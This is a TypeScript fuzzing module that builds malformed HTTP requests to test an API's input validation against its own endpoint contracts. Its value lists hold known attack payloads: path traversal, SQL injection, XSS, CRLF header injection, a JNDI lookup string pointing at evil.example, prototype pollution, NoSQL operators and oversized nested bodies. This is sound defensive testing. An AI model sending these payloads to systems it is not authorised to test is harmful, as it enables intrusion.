import fc from 'fast-check'
import * as z from 'zod'
import { hasBody } from '#shared/api/endpoint.ts'
import { valuesOf } from './arbitrary.ts'

/** As much of a contract as a request is made from; the marketplace's and the platform's have it alike. */
export interface Called {
  readonly method: 'GET' | 'POST' | 'PUT' | 'DELETE'
  readonly path: string
  readonly input: z.ZodType
  readonly secretInput?: true
}

/** One request as the wire carries it. */
export interface FuzzRequest {
  readonly method: string
  readonly target: string
  readonly body?: string
  readonly type?: string
  /** What was done to it, for the report of a failure. */
  readonly how: string
}

type Input = Readonly<Record<string, unknown>>

const infinite = Symbol('1e309')

/** What no field should swallow (reliability 6.1); the symbol becomes a number beyond numbers in the body's text. */
const wrongValues: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  2 ** 31,
  2 ** 53,
  -(2 ** 63),
  infinite,
  '',
  ' ',
  'NaN',
  '１２３',
  [],
  {},
  [[]],
  [null],
  { $ne: null },
  { length: 1 },
  'x'.repeat(100_000),
  '\u0000',
  '\ud800',
  '\u202Eevil',
  '../../etc/passwd',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\r\nSet-Cookie: at=planted',
  '$\u007bjndi:ldap://evil.example}',
  '01JD8ZQ4T8M3K2V9X0WNB5C7RZ',
  'WORK#shino-chawan',
  '9'.repeat(400),
]

const strayFields: readonly (readonly [string, unknown])[] = [
  ['__proto__', { isAdmin: true }],
  ['constructor', { prototype: { isAdmin: true } }],
  ['status', 3],
  ['price', 1],
  ['userId', 'rival'],
  ['owner', 'rival'],
  ['roles', ['owner']],
  ['toString', 'x'],
  ['', 'x'],
]

/** Everything that can be wrong with a call, and now and then nothing; `base` is an input that is known to work. */
export function requestsFor(contract: Called, base: Input): fc.Arbitrary<FuzzRequest> {
  const schema = z.toJSONSchema(contract.input, { io: 'input', unrepresentable: 'any' })
  const generated = valuesOf(schema).map(value => send(contract, Object(value), 'generated'))
  const mutated = mutations(base).map(({ input, how }) => send(contract, input, how))
  const doubled = fc
    .tuple(mutations(base), fc.nat())
    .chain(([first]) => mutations(first.input).map(({ input, how }) => send(contract, input, `${first.how}, ${how}`)))
  const wire = isBodied(contract) ? brokenBodies(contract, base) : brokenQueries(contract, base)
  return fc.oneof(
    { arbitrary: fc.constant(send(contract, base, 'as it should be')), weight: 1 },
    { arbitrary: generated, weight: 5 },
    { arbitrary: mutated, weight: 8 },
    { arbitrary: doubled, weight: 2 },
    { arbitrary: wire, weight: 3 },
  )
}

const isBodied = (called: Called) => hasBody(called)

interface Mutation {
  readonly input: Input
  readonly how: string
}

function mutations(base: Input): fc.Arbitrary<Mutation> {
  const paths = pathsOf(base)
  const stray = fc.constantFrom(...strayFields).map(([name, value]) => ({
    input: Object.fromEntries([...Object.entries(base), [name, value]]),
    how: `unknown field ${name}`,
  }))
  if (paths.length === 0) return stray
  const path = fc.constantFrom(...paths)
  const dropped = path.map(where => ({ input: without(base, where), how: `no ${where.join('.')}` }))
  const wrong = fc.tuple(path, fc.constantFrom(...wrongValues)).map(([where, value]) => ({
    input: changed(base, where, () => value),
    how: `${where.join('.')} = ${brief(value)}`,
  }))
  const listed = path.map(where => ({
    input: changed(base, where, value => [value, value]),
    how: `${where.join('.')} as a list`,
  }))
  const nested = path.map(where => ({
    input: changed(base, where, value => ({ value })),
    how: `${where.join('.')} as an object`,
  }))
  return fc.oneof(
    { arbitrary: dropped, weight: 2 },
    { arbitrary: wrong, weight: 8 },
    { arbitrary: listed, weight: 1 },
    { arbitrary: nested, weight: 1 },
    { arbitrary: stray, weight: 2 },
  )
}

type Path = readonly [string, ...string[]]

/** Fields of the input and of the objects and lists in it. */
function pathsOf(value: unknown, into: readonly string[] = []): Path[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([name, each]): Path[] => {
    const [first = name, ...rest] = [...into, name]
    return [[first, ...rest], ...pathsOf(each, [...into, name])]
  })
}

function changed(value: unknown, [name, ...rest]: readonly string[], change: (old: unknown) => unknown): Input {
  const entries = Object.entries(Object(value)).map(([key, old]): [string, unknown] => {
    if (key !== name) return [key, old]
    return [key, rest.length > 0 ? changed(old, rest, change) : change(old)]
  })
  return Array.isArray(value) ? Object(entries.map(([, each]) => each)) : Object.fromEntries(entries)
}

function without(value: unknown, [name, ...rest]: readonly string[]): Input {
  const entries = Object.entries(Object(value)).flatMap(([key, old]): [string, unknown][] => {
    if (key !== name) return [[key, old]]
    return rest.length > 0 ? [[key, without(old, rest)]] : []
  })
  return Array.isArray(value) ? Object(entries.map(([, each]) => each)) : Object.fromEntries(entries)
}

function brokenBodies(contract: Called, base: Input): fc.Arbitrary<FuzzRequest> {
  const whole = JSON.stringify(base)
  const { method } = contract
  const { target } = send(contract, base, '')
  const make = (how: string, body: string, type = 'application/json') => ({ method, target, body, type, how })
  return fc.oneof(
    fc.nat({ max: Math.max(0, whole.length - 1) }).map(length => make('cut JSON', whole.slice(0, length))),
    fc.constantFrom(
      make('no JSON', 'amount=5'),
      make('a list', '[1,2]'),
      make('a text', '"text"'),
      make('null', 'null'),
      make('true', 'true'),
      make('a number beyond numbers', '1e309'),
      make('two values', `${whole}${whole}`),
      make('depth', '['.repeat(5_000) + ']'.repeat(5_000)),
      make('deep object', `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
      make('byte order mark', `\ufeff${whole}`),
      make('same name twice', `{"x":1,"x":2,${whole.slice(1)}`),
      make('prototype in JSON', `{"__proto__":{"isAdmin":true},${whole.slice(1)}`.replace(/,\}$/, '}')),
      make('half a megabyte', JSON.stringify({ ...base, more: 'x'.repeat(500_000) })),
      make('plain text', whole, 'text/plain'),
      make('form', 'a=1&b=2', 'application/x-www-form-urlencoded'),
      make('multipart', '--x--', 'multipart/form-data; boundary=x'),
      make('XML', '<a/>', 'application/xml'),
      make('no type', whole, ''),
      make('odd charset', whole, 'application/json; charset=utf-7'),
    ),
  )
}

function brokenQueries(contract: Called, base: Input): fc.Arbitrary<FuzzRequest> {
  const { method } = contract
  const { target } = send(contract, base, '')
  const mark = target.includes('?') ? '&' : '?'
  const [name = 'id'] = Object.keys(base)
  const add = (how: string, query: string) => ({ method, target: `${target}${mark}${query}`, how })
  return fc.constantFrom(
    add('a name twice', `${name}=a&${name}=b`),
    add('percent garbage', '%ff=%'),
    add('brackets', 'id[]=1&id[$ne]=2'),
    add('prototype', '__proto__[isAdmin]=1'),
    add('empty names', '&&=&='),
    add('five kilobytes', `q=${'x'.repeat(5_000)}`),
    add('semicolons', 'a=1;b=2'),
    add('a null', `${name}=%00`),
    add('a body that is none', ''),
  )
}

/** The request that carries this input. */
export function send(contract: Called, input: Input, how: string): FuzzRequest {
  const rest = new Map(Object.entries(input))
  const path = contract.path.replace(/\{(\w+)\}/g, (_, name: string) => {
    const value = textOf(rest.get(name)).slice(0, 2_000)
    rest.delete(name)
    // A path without its parameter is another path; a hyphen is no id of anything.
    return encodeURIComponent(value.toWellFormed()) || '-'
  })
  const { method } = contract
  if (isBodied(contract)) {
    const body = JSON.stringify(Object.fromEntries(rest), (_, value) => (value === infinite ? '\u0001' : value))
    return { method, target: path, body: body.replaceAll('"\\u0001"', '1e309'), type: 'application/json', how }
  }
  // API Gateway takes 10 kB of request line and headers; more never reaches a function.
  const query = [...rest]
    .filter(([, value]) => value !== undefined)
    .map(
      ([name, value]) =>
        `${encodeURIComponent(name)}=${encodeURIComponent(textOf(value).toWellFormed().slice(0, 2_000))}`,
    )
    .join('&')
  return { method, target: query ? `${path}?${query}` : path, how }
}

function textOf(value: unknown): string {
  if (value === infinite) return '1e309'
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? '')
}

function brief(value: unknown): string {
  return textOf(value).slice(0, 40)
}
